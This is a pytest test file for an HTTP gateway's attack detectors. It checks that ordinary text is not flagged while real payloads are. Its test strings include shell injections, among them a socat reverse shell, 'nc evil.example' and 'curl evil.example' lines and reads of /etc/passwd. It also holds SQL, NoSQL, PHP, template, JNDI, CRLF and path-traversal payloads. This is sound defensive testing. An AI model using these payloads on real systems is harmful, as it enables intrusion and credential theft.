"""What looks alike and differs in what a program behind the gateway would do with it."""

import pytest

from gateway.inspection.finding import Position
from gateway.inspection.mechanisms import code, crlf, html, lookup, nosql, path, script, shell, sql, template
from gateway.inspection.sign import Mechanism


def names(mechanism: Mechanism, text: str, position: Position = Position.FORM) -> set[str]:
    return {sign.name for sign in mechanism.signs(text, position)}


def test_a_search_for_a_file_is_no_path_to_it() -> None:
    assert "path.secret_file" not in names(path, "/etc/hosts file location", Position.QUERY)
    assert "path.secret_file" in names(path, "/etc/hosts", Position.QUERY)
    assert "path.secret_file" in names(path, "/etc/passwd .pdf", Position.QUERY)


def test_the_bounds_of_a_filter_are_asked_for_and_those_of_a_password_are_not() -> None:
    assert names(nosql, "filter[amount][$gte]", Position.QUERY_NAME) == set()
    assert names(nosql, "filter[amount][$gte]=100", Position.QUERY) == set()
    for name in ("filter[password][$gte]", "password[$gte]", "filter[amount][$ne]", "filter[amount][$where]"):
        assert "nosql.operator" in names(nosql, name, Position.QUERY_NAME)
    assert "nosql.operator" in names(nosql, "filter[amount][$gt]=", Position.QUERY)


def test_a_program_of_php_that_only_counts_is_shown_and_one_that_acts_is_not() -> None:
    shown = (
        "<?php\n$total = 0;\nforeach ($items as $item) { $total += $item['price']; }\necho $total;\n?>\nWhy is it 0?"
    )
    assert names(code, shown) == {"code.quoted"}
    for line in (
        "system($c);",
        "include $page;",
        "echo `id`;",
        "$_GET['a']($x);",
        "echo 7*7;",
        "$f = 'x'; $f('id');",
        "new X;",
    ):
        assert "code.quoted" not in names(code, shown.replace("$total = 0;", line)), line


def test_a_function_that_calls_what_it_is_told_counts_as_that_call() -> None:
    for text in ("array_map('system',array('id'))", "array_filter(array('id'),'system')", "usort($_GET,'assert')"):
        assert "code.php_call" in names(code, text, Position.QUERY)
    assert "code.php_call" not in names(code, "array_map('trim', $names)", Position.QUERY)


@pytest.mark.parametrize("text", ["ls | wc -l gives 0", "<TODO> fix & test </TODO>", "/bin/bash", "/bin/sh"])
def test_what_people_say_of_commands_runs_nothing(text: str) -> None:
    assert names(shell, text) <= {"shell.quoted"}


@pytest.mark.parametrize(
    "text", ['"; id; echo "', "'; id; '", "x | wc -l /etc/passwd", "ls | nc evil.example 80", "a & test </etc/x"]
)
def test_what_leaves_its_place_runs(text: str) -> None:
    assert "shell.command" in names(shell, text)


def test_nobody_pipes_into_a_shell_in_a_cookie() -> None:
    assert "shell.command" in names(shell, "en;id|sh", Position.COOKIE)
    assert "shell.command" not in names(shell, "en;id|sh", Position.FORM)


def test_a_link_to_a_document_in_itself_runs_and_a_picture_does_not() -> None:
    assert "script.address" in names(script, "[x](data:text/html;base64,PHNjcmlwdD4=)")
    assert "script.address" in names(script, "[url=data:text/html,x]y[/url]")
    assert "script.address" not in names(script, "![x](data:image/png;base64,iVBORw0KGgo=)")


def test_a_field_behind_a_line_end_counts_where_no_lines_are_written() -> None:
    assert "crlf.header" in names(crlf, "/x\nX-Injected: yes", Position.QUERY)
    assert "crlf.header" not in names(crlf, "eggs\nmilk: two", Position.QUERY)
    assert "crlf.header" not in names(crlf, "please send me this\nX-Large: two", Position.QUERY)


@pytest.mark.parametrize(
    ("text", "sign"),
    [
        ("5 into outfile '/x.php' lines terminated by 0x3c", "sql.into_file"),
        ("if(1=1,name,price)", "sql.choice"),
        ("(if('a'='b',name,price))", "sql.choice"),
        ("name limit 1 union select password from users", "sql.union"),
        ("id,name from users--", "sql.cut"),
        ("'=' ", "sql.arithmetic"),
        ("1 UNION TABLE users", "sql.union"),
        ("1 LIMIT 1 OFFSET 1;--", "sql.cut"),
    ],
)
def test_a_value_that_goes_on_as_sql_is_found(text: str, sign: str) -> None:
    assert sign in names(sql, text, Position.QUERY)


@pytest.mark.parametrize(
    "text",
    [
        "IF(qty>10, price*0.9, price)",
        "love, peace from Anna --",
        "\"You\" and 'me' = 'us' or nothing -- Shakespeare?",
        "5 union table tennis bats",
        "the students' union table tennis",
        "5 limit 1 -- per customer",
        "no limit 1 union select committee",
        "'or'",
    ],
)
def test_a_sentence_that_has_words_of_sql_is_no_statement(text: str) -> None:
    strong = {"sql.choice", "sql.union", "sql.cut", "sql.tautology", "sql.arithmetic", "sql.condition"}
    assert not names(sql, text, Position.QUERY) & strong


SCRIPT = "My backup script:\n\n#!/bin/bash\nset -e\ntar czf /backup/$(date +%F).tar.gz /var/www\n\nIt fails at tar."


@pytest.mark.parametrize(
    "text",
    [
        SCRIPT,
        "#!/bin/bash\ncd /var/www && git pull\nnpm ci\n",
        "In PowerShell: $env:Path -split ';' | Select-String python",
        "export PATH=$PATH:/usr/local/go/bin in ~/.bashrc, then source ~/.bashrc",
    ],
)
def test_scripts_that_people_show_are_quoted(text: str) -> None:
    assert names(shell, text) <= {"shell.quoted", "shell.bare_word", "shell.unknown_substitution"}


@pytest.mark.parametrize(
    ("text", "sign"),
    [
        (SCRIPT.replace("date +%F", "curl evil.example/x"), "shell.substitution"),
        ("Dear all, please help me with $(sleep 5) thanks", "shell.substitution"),
        ("#!/bin/bash\ncat /etc/passwd", "shell.command"),
        (";printenv|base64", "shell.command"),
        ("8.8.8.8;socat tcp:10.0.0.1:4444 exec:sh", "shell.command"),
        ("-resize 100; id", "shell.command"),
        ("ext::sh -c touch% /tmp/pwned", "shell.option"),
        ("-OQueueDirectory=/tmp -X/var/www/x.php eve@evil.example", "shell.option"),
    ],
)
def test_what_runs_in_a_script_or_behind_options_runs(text: str, sign: str) -> None:
    assert sign in names(shell, text)


def test_a_condition_that_is_quoted_or_spoken_of_is_none() -> None:
    assert "sql.tautology" not in names(sql, 'what does "\' or 1=1" mean', Position.QUERY)
    assert "sql.tautology" not in names(sql, "https://portal.example/?q=' or 1=1 meaning", Position.HEADER)
    for text in ("x' or 1=1", "x' or 1=1 order by 1", "x\"' or 1=1-- "):
        assert "sql.tautology" in names(sql, text, Position.QUERY), text


def test_the_name_of_a_class_leads_nowhere() -> None:
    assert "code.python" not in names(code, "print(Foo(1).__class__.__name__)")
    assert "code.python" in names(code, "print(Foo(1).__class__.__mro__)")
    assert "code.python" in names(code, "''.__class__", Position.QUERY)


def test_a_file_is_searched_for_by_one_word_more() -> None:
    assert "path.secret_file" not in names(path, "web.config example", Position.QUERY)
    assert "path.secret_file" in names(path, "web.config txt", Position.QUERY)


def test_the_style_sheet_of_the_site_itself_is_no_control_of_the_page() -> None:
    assert "html.page_control" not in names(html, '<link rel="stylesheet" href="style.css"> is not loaded')
    for address in ("//evil.example/x.css", "https://evil.example/x.css", "x.js", "/\\evil.example/x.css"):
        assert "html.page_control" in names(html, f'<link rel="stylesheet" href="{address}">'), address
    assert "html.page_control" in names(html, '<link rel="import" href="x.css">')


def test_a_look_up_that_is_only_spoken_of_names_no_host() -> None:
    assert names(lookup, "is ${jndi:ldap://...} still a threat?") == set()
    assert "lookup.jndi" in names(lookup, "is ${jndi:ldap://a.example/x} still a threat?")


def test_a_select_behind_a_later_apostrophe_or_a_star_is_found() -> None:
    assert "sql.subquery" in names(sql, "It's broken', (select version()), 'x')-- ")
    assert "sql.subquery" in names(sql, "*,(select group_concat(password) from users)", Position.QUERY)
    assert "sql.subquery" not in names(sql, "It's 'select one', (select two), 'x' -- as they say")


def test_php_that_looks_at_a_field_is_shown_and_php_that_uses_it_is_not() -> None:
    shown = "if (isset($_POST['name'])) { echo htmlspecialchars($_POST['name']); } shows nothing"
    assert names(code, shown) == {"code.quoted"}
    for use in ("include $_POST['name']", "$f($_POST['name'])", "print($_POST['name'])", "preisset($_POST['name'])"):
        assert names(code, f"isset($_POST['x']); {use};") - {"code.quoted"}, use


def test_a_comment_behind_a_command_hides_what_the_application_adds() -> None:
    assert "shell.command" in names(shell, "a;id;#", Position.QUERY)
    assert "shell.command" not in names(shell, "name;id;", Position.QUERY)


def test_what_holds_the_state_of_a_server_is_no_placeholder() -> None:
    assert "template.reach" in names(template, "${applicationScope}", Position.QUERY)
    assert names(template, "${applicationNumber}", Position.QUERY) == set()


@pytest.mark.parametrize("text", ["../list.php", "../invoices", "../invoices/list.php?page=2#top", "../a/b.html"])
def test_the_way_back_to_a_page_is_no_climb_to_a_file(text: str) -> None:
    assert [sign.name for sign in path.signs(text, Position.QUERY)] == ["path.traversal_mentioned"]


@pytest.mark.parametrize("text", ["../config.php", "../admin/index.php", "../../list.php", "../x;id", "../a/../b.php"])
def test_a_climb_to_anything_else_counts(text: str) -> None:
    assert [sign.name for sign in path.signs(text, Position.QUERY)] == ["path.traversal"]
